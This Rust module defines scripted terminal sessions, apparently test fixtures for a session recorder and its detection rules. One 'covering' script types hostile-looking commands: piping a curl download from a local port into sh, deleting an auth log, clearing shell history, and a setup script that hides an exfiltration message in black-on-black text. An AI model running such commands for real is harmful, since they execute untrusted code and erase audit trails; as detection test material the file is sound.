//! The scripts that can be played on this machine: real programs only, nothing that changes
//! anything outside the private directory.

use std::path::{Path, PathBuf};
use std::time::Duration;

use super::pty::Size;
use super::script::{Script, Step};

/// What can be played here.
#[derive(Debug)]
pub(super) struct Repertoire {
    /// In the order of the first round; never empty.
    pub(super) scripts: Vec<Script>,
    /// Programs that are not installed, for the operator.
    pub(super) missing: Vec<&'static str>,
}

impl Repertoire {
    /// Looks for the programs in `directories`.
    pub(super) fn find(directories: &[PathBuf]) -> Self {
        let find = |name: &'static str| find(name, directories);
        let shell = find("sh").unwrap_or_else(|| "/bin/sh".into());
        let top = find("top").map(top);
        let editor = find("vim").or_else(|| find("vi")).map(editor);
        let missing = [("top", top.is_none()), ("vim", editor.is_none())];
        let bash = find("bash");
        let scripted = bash.clone().unwrap_or_else(|| shell.clone());
        let at_shell = |part: fn(PathBuf, &[&str]) -> Script| match &bash {
            Some(bash) => part(bash.clone(), &BASH),
            None => part(shell.clone(), &[]),
        };
        let scripts = [
            Some(at_shell(covering)),
            top,
            Some(at_shell(login)),
            Some(interrupted(scripted.clone())),
            Some(failing(scripted)),
            editor,
        ];
        Self {
            scripts: scripts.into_iter().flatten().collect(),
            missing: missing.into_iter().filter_map(|(name, gone)| gone.then_some(name)).collect(),
        }
    }
}

/// The files that the scripts use, by name in the session's home directory.
pub(super) const FILES: [(&str, &str); 4] = [
    (
        "notes.txt",
        "Window for the database move: Saturday 02:00 to 04:00\n\
         1. stop the writers\n2. take the snapshot\n3. switch the address\n",
    ),
    ("copy-archive.sh", COPY_ARCHIVE),
    ("setup.sh", SETUP),
    ("check-backup.sh", CHECK_BACKUP),
];

/// A person at a shell.
fn login(shell: PathBuf, arguments: &[&str]) -> Script {
    let steps = vec![
        pause(600),
        Step::Type("id\r"),
        pause(1200),
        Step::Type("uname -sr; uptime\r"),
        pause(1800),
        Step::Type("ls -l --color /etc | head -n 18\r"),
        pause(2500),
        Step::Type("df -h /\r"),
        pause(2000),
        Step::Type("cat notes.txt\r"),
        pause(2500),
        Step::Type("for n in 1 2 3 4 5 6; do echo \"replica $n: ok\"; sleep 1; done\r"),
        pause(8000),
        Step::Type("grep -n --color=always root /etc/passwd\r"),
        pause(2500),
        Step::Type("sha256summ notes.txt\r"),
        pause(1500),
        Step::Type("sha256sum notes.txt\r"),
        pause(3000),
        Step::Type("exit 0\r"),
    ];
    script(shell, arguments, 24, 80, steps)
}

/// A person who has something to hide, so that the rules find something, and the second operator too. Nothing of it
/// does any harm: nobody answers at that port, and there is no such log.
fn covering(shell: PathBuf, arguments: &[&str]) -> Script {
    let steps = vec![
        pause(800),
        Step::Type("id; hostname\r"),
        pause(1500),
        Step::Type("curl -s http://127.0.0.1:9/setup.sh | sh\r"),
        pause(2500),
        Step::Type("sh ./setup.sh\r"),
        pause(3000),
        Step::Type("rm -f ./var/log/auth.log\r"),
        pause(7000),
        Step::Type("history -c\r"),
        pause(9000),
        Step::Type("exit 0\r"),
    ];
    script(shell, arguments, 24, 80, steps)
}

/// A full-screen program, resized once.
fn top(program: PathBuf) -> Script {
    let steps = vec![
        pause(9000),
        Step::Type("M"),
        pause(9000),
        Step::Type("1"),
        pause(6000),
        Step::Resize(Size { lines: 32, columns: 110 }),
        pause(12_000),
        Step::Type("P"),
        pause(9000),
        Step::Type("q"),
    ];
    script(program, &["-d", "1"], 28, 100, steps)
}

/// A full-screen program that writes a file.
fn editor(program: PathBuf) -> Script {
    let steps = vec![
        pause(1500),
        Step::Type("Go"),
        Step::Type("4. wait for the replicas to catch up\r5. let the writers in again"),
        pause(900),
        Step::Type("\x1b"),
        pause(700),
        Step::Type(":set number\r"),
        pause(1500),
        Step::Type("/snapshot\r"),
        pause(1500),
        Step::Type("A and check it"),
        Step::Type("\x1b"),
        pause(2500),
        Step::Type(":wq\r"),
    ];
    script(program, &["-u", "NONE", "-i", "NONE", "-n", "notes.txt"], 24, 80, steps)
}

/// A long job that is given up with Ctrl+C.
fn interrupted(shell: PathBuf) -> Script {
    script(shell, &["copy-archive.sh"], 24, 80, vec![pause(16_000), Step::Type("\x03")])
}

/// A job that fails by itself.
fn failing(shell: PathBuf) -> Script {
    script(shell, &["check-backup.sh"], 24, 80, vec![pause(20_000)])
}

fn script(
    program: PathBuf,
    arguments: &[&str],
    lines: u16,
    columns: u16,
    steps: Vec<Step>,
) -> Script {
    let arguments = arguments.iter().map(|&argument| argument.to_owned()).collect();
    Script { program, arguments, size: Size { lines, columns }, steps }
}

fn pause(milliseconds: u64) -> Step {
    Step::Pause(Duration::from_millis(milliseconds))
}

fn find(name: &str, directories: &[PathBuf]) -> Option<PathBuf> {
    directories.iter().map(|directory| directory.join(name)).find(|path| is_program(path))
}

fn is_program(path: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    path.metadata().is_ok_and(|data| data.is_file() && data.permissions().mode() & 0o111 != 0)
}

/// Without the user's own start files, so that every run looks the same.
const BASH: [&str; 3] = ["--noprofile", "--norc", "-i"];

const COPY_ARCHIVE: &str = r#"# Pretends to copy an archive, block by block; meant to be interrupted.
# bash waits by itself; another shell calls for sleep.
[ -n "$BASH_VERSION" ] && sleep() { read -r -t "$1" _; true; }
block=0
while [ "$block" -lt 400 ]; do
    block=$((block + 4))
    printf 'copying archive: block %3d of 400\n' "$block"
    sleep 0.5
done
"#;

const SETUP: &str = r#"# Says less than it does: one line is black on black, for `x` in the player.
echo "setup: 3 of 3 steps done"
printf '\033[30;40mnotes.txt sent to 127.0.0.1:9\033[0m\n'
"#;

const CHECK_BACKUP: &str = r#"# Fails because there is no such backup.
backup="$HOME/backup/latest.tar"
echo "looking for $backup"
sleep 2
if ! ls -l "$backup"; then
    printf '\033[31mno backup found\033[0m\n' >&2
    exit 3
fi
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_not_installed_is_named_and_the_rest_is_played() {
        let nothing = Repertoire::find(&[]);
        assert_eq!(nothing.missing, ["top", "vim"]);
        assert_eq!(nothing.scripts.len(), 4);
        assert!(nothing.scripts.iter().all(|script| script.program == Path::new("/bin/sh")));
    }

    #[test]
    fn only_executable_files_are_programs() {
        let directory = tempfile::tempdir().unwrap();
        std::fs::write(directory.path().join("top"), "").unwrap();
        assert_eq!(find("top", &[directory.path().to_owned()]), None);
        assert!(find("sh", &["/bin".into(), "/usr/bin".into()]).is_some());
    }
}
